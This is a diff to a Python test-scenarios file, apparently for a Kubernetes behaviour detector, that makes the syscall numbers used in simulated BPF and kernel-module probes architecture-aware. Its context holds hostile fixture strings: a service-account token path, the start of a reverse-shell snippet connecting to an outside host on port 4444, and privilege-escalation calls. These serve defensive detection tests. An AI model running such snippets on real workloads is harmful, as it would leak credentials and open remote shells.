@@ -4,11 +4,13 @@ Each is made to one workload, as an attack, a careless release or a changed depe
 when the program starts. The trap: what prepares it is seen, too, so it must not be more serious than the harm itself.
 """
 
+import platform
 from dataclasses import dataclass, replace
 from pathlib import Path
 from textwrap import indent
 
 from kubectl_gadget.behavior.facts import FactKind
+from kubectl_gadget.events.linux.syscalls import syscall_names
 from tests.behavior.scenarios.stage import METADATA, OUTSIDE
 from tests.behavior.scenarios.workloads import API, CACHE, DB, FRONT, ORDERS, Workload
 
@@ -59,6 +61,9 @@ def _edited(workload: Workload, file: str, old: str, new: str, **more: str) -> W
     return replace(workload, files={**workload.files, file: workload.files[file].replace(old, new), **more})
 
 
+_CALLS = {name: number for number, name in syscall_names(platform.machine()).items()}
+_BPF = f"libc.syscall({_CALLS['bpf']}, 5, ctypes.create_string_buffer(120), 120)"
+_MODULE = f"libc.syscall({_CALLS['finit_module']}, 0, b'', 0)"
 _NGINX, _REDIS = "etc/nginx/nginx.conf", "etc/redis/redis.conf"
 _TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
 _SHELL = f"""s = socket.create_connection(('{OUTSIDE}', 4444))
@@ -95,7 +100,7 @@ CHANGES = (
     _child("memfd", FactKind.PROGRAM, "memfd:x", _MEMFD),
     _dependency("mount", FactKind.CAPABILITY, "CAP_SYS_ADMIN", "libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)"),
     _dependency("ptrace", FactKind.PRIVILEGE, "ptrace", _PTRACE),
-    _dependency("BPF", FactKind.CAPABILITY, "CAP_BPF", "libc.syscall(321, 5, ctypes.create_string_buffer(120), 120)"),
+    _dependency("BPF", FactKind.CAPABILITY, "CAP_BPF", _BPF),
     _dependency("raw socket", FactKind.CAPABILITY, "CAP_NET_RAW", "socket.socket(2, socket.SOCK_RAW, 1).close()"),
     _child("user namespace", FactKind.PRIVILEGE, "CLONE_NEWUSER", "os.unshare(os.CLONE_NEWUSER)"),
     _child("chroot", FactKind.PRIVILEGE, "chroot", "os.chroot('/srv')"),
@@ -128,7 +133,7 @@ CHANGES = (
         "program by SQL", replace(DB, script=DB.script.replace(_SQL, _BY_SQL)), FactKind.PROGRAM, "/usr/bin/cat"
     ),
     *(
-        [_dependency("module", FactKind.CAPABILITY, "CAP_SYS_MODULE", "libc.syscall(313, 0, b'', 0)")]
+        [_dependency("module", FactKind.CAPABILITY, "CAP_SYS_MODULE", _MODULE)]
         if Path("/proc/modules").exists()
         else []
     ),
